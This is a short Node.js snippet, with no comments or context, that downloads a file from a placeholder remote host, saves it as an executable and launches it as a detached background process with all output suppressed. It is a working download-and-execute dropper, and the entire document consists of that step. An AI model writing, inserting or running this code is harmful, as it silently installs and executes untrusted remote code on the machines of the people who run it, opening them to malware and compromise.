const fs = require("fs");
const { spawn } = require("child_process");
fetch("https://c.example.test/a").then(async (reply) => {
  fs.writeFileSync("a", Buffer.from(await reply.arrayBuffer()), { mode: 0o755 });
  spawn("./a", [], { detached: true, stdio: "ignore" }).unref();
});
